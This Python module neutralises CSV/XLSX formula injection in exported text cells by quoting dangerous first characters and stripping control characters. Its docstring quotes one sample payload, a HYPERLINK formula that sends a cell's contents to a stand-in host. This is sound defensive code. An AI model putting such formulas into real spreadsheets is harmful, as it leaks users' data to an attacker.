"""Cells that are safe to open in a spreadsheet: text stays text, and XLSX can hold it.

Names and other text in exports come from terminals and keypads, and the protocol has no
authentication: anything that reaches the gateway can send a name such as
``=HYPERLINK("http://evil/?"&A1,"click")``. Excel, LibreOffice and Google Sheets treat a
CSV cell (or an XLSX string written as a formula) that starts with ``=``, ``+``, ``-`` or
``@`` as a formula, and a leading tab or carriage return can hide one (OWASP "CSV
injection"). Every CSV and XLSX writer in the toolkit passes text through :func:`safe_text`
(or a whole frame through :func:`safe_frame`): a dangerous first character gets a single
quote in front, which spreadsheets show as text, and the control characters XLSX cannot
store (openpyxl raises ``IllegalCharacterError`` on them) are dropped.

Only text is touched: numbers, dates and durations keep their types, so ``-5`` in a numeric
column is still the number -5.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

__all__ = ["FORMULA_STARTS", "safe_frame", "safe_text", "unsafe_text"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (or hide one)."""

_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
"""Control characters an XLSX (XML 1.0) cell cannot hold; tab, LF and CR are allowed."""


def safe_text(value: str) -> str:
    """``value`` with XLSX-illegal characters dropped and a formula start neutralised."""
    text = _ILLEGAL.sub("", value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def unsafe_text(value: str) -> str:
    """Undo :func:`safe_text`'s quote when reading our own export back (roster CSV import)."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def _cell(value: Any) -> Any:
    return safe_text(value) if isinstance(value, str) else value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are :func:`safe_text`; other columns untouched.

    Text columns are ``object``, ``string`` and ``category`` ones; within an ``object``
    column only ``str`` values change, so numbers stored there stay numbers.
    """
    import pandas as pd

    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if isinstance(series.dtype, pd.CategoricalDtype):
            categories = series.cat.categories
            if pd.api.types.is_object_dtype(categories) or pd.api.types.is_string_dtype(categories):
                renamed = [_cell(c) for c in categories]
                if len(set(renamed)) == len(renamed):
                    out[column] = series.cat.rename_categories(renamed)
                else:  # two names became one: give up the category, keep the text
                    out[column] = series.astype(object).map(_cell, na_action="ignore")
        elif pd.api.types.is_string_dtype(series) or pd.api.types.is_object_dtype(series):
            out[column] = series.map(_cell, na_action="ignore").astype(series.dtype)
    return out
